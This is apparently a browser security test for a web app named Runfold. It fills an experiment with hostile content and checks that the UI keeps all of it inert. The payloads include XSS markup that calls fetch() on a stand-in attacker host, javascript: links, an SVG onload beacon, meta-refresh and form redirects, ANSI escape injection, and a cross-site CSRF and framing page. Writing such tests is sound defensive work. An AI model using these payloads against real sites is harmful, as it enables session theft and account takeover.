// Everything that a user may name, report or upload is an attack here; nothing of it may act. Called with the variables
// of flow.mjs. A collector on another host must receive nothing at all.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { connect } from "./api.mjs";
import { launch, settled, signedIn } from "./session.mjs";

const { RUNFOLD_URL, RUNFOLD_ACCESS_KEY, RUNFOLD_SECRET_KEY } = process.env;
const heard = [];
const pages = new Map();
const collector = createServer((request, response) => {
  const page = pages.get(request.url);
  if (page === undefined) heard.push(request.url);
  response.writeHead(200, { "Content-Type": "text/html" });
  response.end(page ?? "");
});
await new Promise((done) => collector.listen(0, "127.0.0.1", done));
// Another site than 127.0.0.1, as an attacker's would be.
const EVIL = `http://localhost:${collector.address().port}`;
const server = await connect(RUNFOLD_URL, RUNFOLD_ACCESS_KEY, RUNFOLD_SECRET_KEY);
const E = "\u001b";
const MARKUP = `<img src=${EVIL}/img onerror="fetch('${EVIL}/js');alert(1)"><script>alert(1)</script>`;
const SCRIPT = `<script>document.title='acted';try{document.cookie='x=1'}catch{};fetch('${EVIL}/sample');new Image().src='${EVIL}/image';top.location='${EVIL}/top';alert(1)</script>`;

async function attack() {
  const project = (
    await server.call("projects.create", { name: `hostile ${MARKUP.slice(0, 60).replaceAll("/", "∕")}` })
  ).id;
  const { id: task } = await server.call("tasks.create", {
    name: `name ${MARKUP}`,
    type: "training",
    project,
    comment: MARKUP,
    tags: [MARKUP, "\u202egnp.exe"],
  });
  await server.call("tasks.edit", {
    task,
    force: true,
    script: {
      repository: "javascript:alert(1)",
      branch: MARKUP,
      version_num: MARKUP,
      entry_point: MARKUP,
      diff: `diff --git a/${MARKUP} b/${MARKUP}\n@@ -1 +1 @@\n-${MARKUP}\n+${MARKUP}\n`,
      requirements: { pip: MARKUP },
    },
    container: { image: MARKUP, setup_shell_script: MARKUP },
  });
  await server.call("tasks.edit_hyper_params", {
    task,
    hyperparams: [
      { section: MARKUP, name: MARKUP, value: MARKUP, description: MARKUP },
      { section: "Args", name: "long", value: "x".repeat(1_000_000) },
    ],
  });
  await server.call("tasks.edit_configuration", {
    task,
    configuration: [{ name: MARKUP, value: `{"${MARKUP.replaceAll('"', "'")}": 1}` }],
  });
  await server.call("tasks.started", { task });
  const at = (rest, n) => ({ task, timestamp: 1_770_000_000_000 + n, ...rest });
  const figure = {
    data: [
      {
        type: "scatter",
        x: [1, 2],
        y: [1, 2],
        name: MARKUP,
        text: [`<a href="javascript:alert(1)">a</a>`, `<a href="${EVIL}/link">b</a>`],
        hovertemplate: MARKUP,
      },
    ],
    layout: {
      title: { text: `${MARKUP}<a href="${EVIL}/title">t</a>` },
      images: [{ source: `${EVIL}/layout.png`, x: 0, y: 1, sizex: 1, sizey: 1 }],
      annotations: [{ text: MARKUP, x: 1, y: 1 }],
    },
    config: { plotlyServerURL: EVIL, showSendToCloud: true },
  };
  const map = { data: [{ type: "scattermap", lat: [1], lon: [1] }], layout: { map: { style: `${EVIL}/style.json` } } };
  const files = {};
  for (const [name, body, type] of [
    [
      "page.html",
      `<!doctype html>${SCRIPT}<meta http-equiv=refresh content="0;url=${EVIL}/refresh"><form action=${EVIL}/form><button>x</button></form><link rel=stylesheet href=${EVIL}/css><p>a page</p>`,
      "text/html",
    ],
    ["scripted.html", `<!doctype html>${SCRIPT}<p>a scripted page</p>`, "text/html"],
    [
      "drawing.svg",
      `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${EVIL}/svg')"><script>alert(1)</script><image href="${EVIL}/svgimage"/><circle r="9"/></svg>`,
      "image/svg+xml",
    ],
    ["lie.png", SCRIPT, "image/png"],
    ["data.xml", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`, "text/xml"],
  ]) {
    files[name] = await server.upload(`hostile/${task}/${name}`, body, type);
  }
  await server.report([
    ...[0, 1, 2].map((iter) =>
      at({ type: "training_stats_scalar", metric: MARKUP, variant: MARKUP, iter, value: iter }, iter),
    ),
    at({ type: "plot", metric: MARKUP, variant: MARKUP, iter: 1, plot_str: JSON.stringify(figure) }, 10),
    at({ type: "plot", metric: "map", variant: "map", iter: 1, plot_str: JSON.stringify(map) }, 11),
    at(
      {
        type: "plot",
        metric: "large",
        variant: "large",
        iter: 1,
        plot_str: `{"data":[{"y":[${"1,".repeat(600_000)}1]}]}`,
      },
      12,
    ),
    ...Object.entries(files).map(([name, url], n) =>
      at({ type: "training_debug_image", metric: "samples", variant: name, iter: 1, url, key: name }, 20 + n),
    ),
    at(
      {
        type: "log",
        level: "INFO",
        msg: `${E}]0;title\u0007${E}]8;;javascript:alert(1)${E}\\click${E}]8;;${E}\\ ${E}[2J${E}[31mred${E}[0m ${MARKUP}\n`,
      },
      30,
    ),
    at({ type: "log", level: "INFO", msg: `${"long ".repeat(40_000)}\n` }, 31),
  ]);
  await server.call("tasks.add_or_update_artifacts", {
    task,
    artifacts: [
      { key: MARKUP, type: MARKUP, mode: "output", uri: files["page.html"], type_data: { preview: MARKUP } },
      { key: "link", type: "x", mode: "output", uri: "javascript:alert(1)" },
    ],
  });
  return task;
}

async function answersKeysWithin(page, ms) {
  const start = performance.now();
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done))));
  assert.ok(performance.now() - start < ms, `the page was stuck for ${Math.round(performance.now() - start)} ms`);
}

async function tour(browser, task) {
  const { context, page, go, isClean } = await signedIn(browser);
  for (const tab of [
    "overview",
    "execution",
    "config",
    "artifacts",
    "console",
    "scalars",
    "plots",
    "samples",
    "info",
  ]) {
    await go(`tasks/${task}/${tab}`);
    await page.getByRole("navigation", { name: "Parts of the experiment" }).waitFor();
    await settled(page);
    await answersKeysWithin(page, 2_000);
    assert.equal(await page.locator("main script, main img[onerror]").count(), 0, `${tab}: markup became an element`);
    assert.ok((await page.title()).includes("name <img"), `${tab}: the name is shown as text`);
    isClean(tab);
  }
  await go(`compare?ids=${task}`);
  await page.getByRole("navigation", { name: "Parts of the comparison" }).waitFor();
  await settled(page);
  isClean("compare");
  await context.close();
}

/** S14: figures are drawn where there is no origin, no cookie and no network. */
async function plots(browser, task) {
  const { context, page, go, isClean } = await signedIn(browser);
  await go(`tasks/${task}/plots`);
  const frame = page.frameLocator('iframe[title="Plots"]');
  await frame.locator(".js-plotly-plot .main-svg").first().waitFor();
  const inside = page.frames().find((one) => one.url().includes("plot-frame.html"));
  const reach = await inside.evaluate(() => {
    const attempt = (run) => {
      try {
        return String(run());
      } catch (error) {
        return error.name;
      }
    };
    return {
      origin: origin,
      cookie: attempt(() => document.cookie),
      storage: attempt(() => localStorage.length),
      parent: attempt(() => parent.document.title),
    };
  });
  assert.deepEqual(reach, {
    origin: "null",
    cookie: "SecurityError",
    storage: "SecurityError",
    parent: "SecurityError",
  });
  const network = await inside.evaluate(
    (url) =>
      fetch(url).then(
        () => "reached",
        () => "refused",
      ),
    `${RUNFOLD_URL}/api/debug.ping`,
  );
  assert.equal(network, "refused");
  assert.equal(await frame.locator("a[href]").count(), 0, "no link is left in a figure");
  await page.getByText("links in labels were made plain text").first().waitFor();
  isClean("plots");
  await context.close();
}

/** S13, S17: a page of a user's is shown without an origin, with its scripts only when asked, and even then shut in. */
async function samples(browser, task) {
  const { context, page, go, faults } = await signedIn(browser);
  await go(`tasks/${task}/samples`);
  await page.getByRole("button", { name: /page\.html/ }).click();
  const shown = page.locator('iframe[title*="page.html"]');
  await page.frameLocator('iframe[title*="page.html"]').getByText("a page").waitFor();
  assert.equal(await shown.getAttribute("sandbox"), "");
  // With scripts a page may send its frame away, but not to another site: the policy of the page around it says so.
  await page.getByRole("button", { name: "Run its scripts in the sandbox" }).click();
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: /scripted\.html/ }).click();
  await page.getByRole("button", { name: "Run its scripts in the sandbox" }).click();
  await page.frameLocator('iframe[title*="scripted.html"]').getByText("a scripted page").waitFor();
  assert.equal(await page.locator('iframe[title*="scripted.html"]').getAttribute("sandbox"), "allow-scripts");
  const inside = page.frames().find((one) => one.url().includes("scripted.html"));
  assert.equal(await inside.evaluate(() => origin), "null");
  const reach = (url) =>
    fetch(url).then(
      () => "reached",
      () => "refused",
    );
  assert.equal(await inside.evaluate(reach, `${RUNFOLD_URL}/api/debug.ping`), "refused");
  assert.ok(page.url().startsWith(RUNFOLD_URL), "the frame did not lead the page away");
  // What a frame asked for and was refused is not a request that left: the collector is the judge.
  assert.deepEqual(
    faults.filter((fault) => fault.startsWith("dialog")),
    [],
  );
  await context.close();
}

/** S18: an escape sequence colours, and does nothing else. */
async function consoleText(browser, task) {
  const { context, page, go, isClean } = await signedIn(browser);
  await go(`tasks/${task}/console`);
  await page.getByText("red", { exact: true }).waitFor();
  assert.equal(await page.locator("[data-log] a[href^='javascript']").count(), 0);
  assert.equal(await page.locator(".ansi-fg-1").first().textContent(), "red");
  await page.getByRole("button", { name: /more letters · show/ }).waitFor();
  isClean("console");
  await context.close();
}

/** S21, S23: another site can neither frame the page nor use its session. */
async function foreignSite(browser, task) {
  const { context, faults } = await signedIn(browser);
  const body = JSON.stringify({ task, name: "taken over" });
  pages.set(
    "/attack",
    `<iframe src="${RUNFOLD_URL}/"></iframe><script>
    const ask = (headers) => fetch("${RUNFOLD_URL}/api/tasks.update", { method: "POST", credentials: "include", headers, body: ${JSON.stringify(body)}, mode: headers ? "cors" : "no-cors" }).catch(() => {});
    Promise.all([ask(), ask({ "Content-Type": "application/json", "X-Runfold": "1" })]).then(() => { document.title = "done"; });
  </script>`,
  );
  const page = await context.newPage();
  await page.goto(`${EVIL}/attack`);
  await page.waitForFunction(() => document.title === "done");
  const framed = page.frames()[1];
  assert.equal(await framed.locator("#app").count(), 0, "the page let itself be framed");
  const { tasks } = await server.call("tasks.get_all_ex", { id: [task], only_fields: ["name"] });
  assert.ok(tasks[0].name.startsWith("name <img"), "another site changed a task");
  faults.length = 0;
  await context.close();
}

/** S52: a signed link reads one file, for one purpose, and is refused when anything of it is changed. */
async function signedLinks(task) {
  const path = `hostile/${task}/page.html`;
  const sign = (purpose) => server.call("files.sign", { path, ...(purpose && { purpose }) });
  const [preview, download] = [await sign("preview"), await sign()];
  const status = async (path, query) => (await fetch(`${RUNFOLD_URL}/${path}?${query}`)).status;
  assert.equal(await status(preview.path, preview.query), 200);
  assert.equal(await status(preview.path.replace("page.html", "drawing.svg"), preview.query), 401);
  assert.equal(await status(download.path, `${download.query}&purpose=preview`), 401);
  assert.equal(await status(preview.path, preview.query.replace("&purpose=preview", "")), 401);
  assert.equal(await status(preview.path, preview.query.replace(/ends=\d+/, "ends=9999999999")), 401);
  const shown = await fetch(`${RUNFOLD_URL}/${preview.path}?${preview.query}`);
  assert.match(shown.headers.get("content-security-policy"), /^sandbox; default-src 'none'/);
  assert.equal(shown.headers.get("x-content-type-options"), "nosniff");
}

const task = await attack();
const browser = await launch();
try {
  for (const part of [tour, plots, samples, consoleText, foreignSite]) {
    await part(browser, task);
    assert.deepEqual(
      heard.filter((url) => url !== "/favicon.ico"),
      [],
      `${part.name}: the collector received something`,
    );
  }
  await signedLinks(task);
} finally {
  await browser.close();
  collector.close();
}
console.log("hostile content stayed inert");
